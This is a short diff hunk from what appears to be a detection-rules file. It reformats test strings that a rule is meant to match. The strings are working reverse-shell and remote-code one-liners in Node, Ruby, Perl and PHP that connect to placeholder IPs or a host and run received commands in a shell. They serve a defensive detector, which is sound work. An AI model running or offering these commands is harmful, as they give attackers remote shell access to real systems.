@@ -577,8 +577,10 @@ RULES = [
                 "s.connect(9001,'203.0.113.8',()=>{const p=c.spawn('/bin/bash');"
                 "s.pipe(p.stdin);p.stdout.pipe(s)})\"",
                 "ruby -rsocket -e 's=TCPSocket.new(\"cdn.example.net\",443); eval(s.read)'",
-                "ruby -rsocket -e 'c=TCPSocket.new(\"198.51.100.30\",4000);while(l=c.gets);c.print(`#{l}`);end'",
-                "perl -MIO::Socket -e '$c=IO::Socket::INET->new(\"192.0.2.9:81\");while(<$c>){print $c qx($_)}'",
+                "ruby -rsocket -e 'c=TCPSocket.new(\"198.51.100.30\",4000);"
+                "while(l=c.gets);c.print(`#{l}`);end'",
+                "perl -MIO::Socket -e '$c=IO::Socket::INET->new(\"192.0.2.9:81\");"
+                "while(<$c>){print $c qx($_)}'",
                 "php -r '$s=fsockopen(\"192.0.2.7\",9001);while($l=fgets($s)){fwrite($s,`$l`);}'",
             ],
             "no_match": ["python3 -c 'import socket; print(socket.gethostname())'",
